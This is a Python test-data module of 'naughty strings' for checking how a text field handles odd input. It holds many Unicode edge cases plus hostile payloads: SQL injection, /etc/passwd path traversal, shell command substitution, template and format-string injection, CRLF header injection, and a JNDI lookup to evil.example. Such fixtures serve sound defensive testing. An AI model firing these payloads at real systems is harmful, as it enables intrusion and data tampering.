"""Text that breaks programs: what a keyboard, a clipboard or a hand-made request can put into a field."""

from __future__ import annotations

#: Stored as it is, or as Unicode's composed form, when it is stored.
HARMLESS = (
    # Looks like a value, a file, a command or a question.
    *("undefined", "null", "None", "true", "NaN", "-1", "0", "1e999", "0x0", "1/0", "٣", "½"),
    *("../../../../etc/passwd", "..\\..\\con.txt", "C:\\CON\\CON", "file:///etc/passwd", "/dev/null; touch x"),
    *("'; DROP TABLE articles_article; --", "1' OR '1'='1", '" OR ""="', "%' AND 1=1--", "\\", "_%_"),
    *("$(touch /tmp/x)", "`id`", "${jndi:ldap://evil.example/a}", "{{ 7*7 }}", "{% load x %}", "<%= 7 %>", "#{7*7}"),
    *("%s%s%s%n", "%(headline)s", "{0}{1}{x}", "{!r}", "%d %p", "100% {", "\\u0000", "\\x00", "&#0;", "&amp;lt;"),
    # Looks like another character, or like none.
    *("Ｆｕｌｌ ｗｉｄｔｈ", "раураl (Cyrillic)", "I İ ı i", "ß ẞ ſ ﬁ", "Å Å Å", "한글 조선글", "漢字 漢字 舘 館"),
    *("\u202eright to left\u202c", "\u2066isolated\u2069", "שלום עליכם", "مرحبا بالعالم", "\u200fRLM"),
    *(
        "zero\u200bwidth\u200c\u200d",
        "\ufeffBOM",
        "soft\u00adhyphen",
        "word\u2060joiner",
        "line\u2028and\u2029paragraph",
    ),
    *("tags \U000e0041\U000e007f", "private \ue000", "unassigned \U000e01f0", "not a character \ufffe \uffff"),
    # Many marks over one letter, many pictures in one, pictures that are nothing by themselves.
    *("Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "👩‍👩‍👧‍👦🏳️‍🌈🇰🇷🇺🇳", "\U0001f3fb", "\u200d\ufe0f", "각각ᄀᆨ"),
    *("Ω≈ç√∫˜µ≤≥÷", "𝕋𝕙𝕖 𝖖𝖚𝖎𝖈𝖐", "˙ɐnbᴉlɐ", "␀␁␂", "（╯°□°）╯︵ ┻━┻", "ﷺ" * 12),
)
#: Changed or refused.
DISTURBING = ("nul\x00in it", "\x00", "bell\x07 escape\x1b[31m", "\x7f\x85", "\r\n\r\nSet-Cookie: a=b", "\t\v\f")
